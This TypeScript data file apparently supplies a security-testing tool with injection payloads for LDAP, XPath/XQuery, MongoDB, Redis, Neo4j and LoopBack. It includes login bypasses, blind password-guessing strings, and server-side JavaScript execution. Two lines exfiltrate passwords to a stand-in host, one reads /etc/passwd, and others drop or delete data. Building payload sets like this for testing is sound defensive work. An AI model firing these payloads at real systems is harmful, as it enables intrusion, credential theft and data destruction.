// Directories and stores that are not SQL. Sources: RFC 4515, XPath, the manuals of MongoDB, Redis, Neo4j, Elasticsearch.
import type { Family } from "../contract.ts"

export const DIRECTORIES: readonly Family[] = [
    {
        name: "ldap",
        rows: [
            ["form", "*)(uid=*))(|(uid=*", "every entry"],
            ["form", "admin)(&)", "an empty and"],
            ["form", "*)(objectClass=*", "every entry"],
            ["form", "admin)(|(password=*)", "an or"],
            ["form", "x)(cn=*))\u0000", "cuts the rest"],
            ["query", "admin)(!(&(1=0", "a not"],
            ["query", "*)(|(mail=*)(cn=a*", "guesses"],
            ["form", "x)(userPassword:2.5.13.18:=\\61", "a rule of comparison"],
            ["form", "admin*)((|userPassword=*)", "guesses"],
        ],
    },
    {
        name: "xpath",
        rows: [
            ["form", "' or '1'='1", "always"],
            ["form", "' or count(/*)=1 or 'a'='b", "counts"],
            ["form", "'] | //user/* | a['", "another set"],
            ["form", "' or name(/*)='users", "a name"],
            ["form", "x' or substring(//user[1]/password,1,1)='a", "a letter"],
            ["form", "') or contains(name,'a') or ('", "in a bracket"],
            ["query", "doc(concat('http://x.example/',//user[1]/password))", "sends"],
            ["query", "' and starts-with(//user[1]/name,'a", "a beginning"],
            ["query", "string-length(//user[1]/password)>5 or 'x", "a length"],
            ["query", '"] union (//secret) | //a["', "another set"],
            ["query", '"}) return doc("file:///etc/passwd") (:', "XQuery"],
        ],
    },
    {
        name: "nosql",
        rows: [
            ["body application/json", '{"user":{"$ne":null},"pass":{"$gt":""}}', "any password"],
            ["form string", "user[$ne]=x&pass[$ne]=x", "any password"],
            ["query string", "user[$regex]=^a", "a beginning"],
            ["body application/json", '{"$where":"sleep(5000)"}', "a program"],
            ["query", "';return true;var a='", "within a program"],
            ["query", "' || this.password.match(/^a/)//", "within a program"],
            [
                "body application/json",
                '{"$expr":{"$function":{"body":"function(){return 1}","args":[],"lang":"js"}}}',
                "a program",
            ],
            [
                "body application/json",
                '[{"$lookup":{"from":"users","localField":"a","foreignField":"b","as":"c"}}]',
                "another table",
            ],
            ["query string", "user[$nin][]=x", "none of"],
            ["query", "'; db.users.drop(); var b='", "drops"],
            ["query", "1;sleep(5000)", "waits"],
            ["form", "EVAL \"return redis.call('keys','*')\" 0", "Redis: a program"],
            ["query", "' OR 1=1 WITH 1 as a CALL dbms.components() YIELD name RETURN name//", "Neo4j: a procedure"],
            ["query", "'}) DETACH DELETE n //", "Neo4j: deletes"],
            ["query", "' LOAD CSV FROM 'http://x.example/' AS l RETURN l//", "Neo4j: sends"],
            ["form", "'=='a' && this.passwords[0][0]=='a", "within a program"],
            ["body application/json", '{"name":{"$regex":".*","$options":"i"}}', "any name"],
            ["query string", "filter[where][password][like]=a%25", "LoopBack: a secret's letters"],
            ["query string", "$where=function(){return%20this.a}", "a program"],
        ],
    },
]
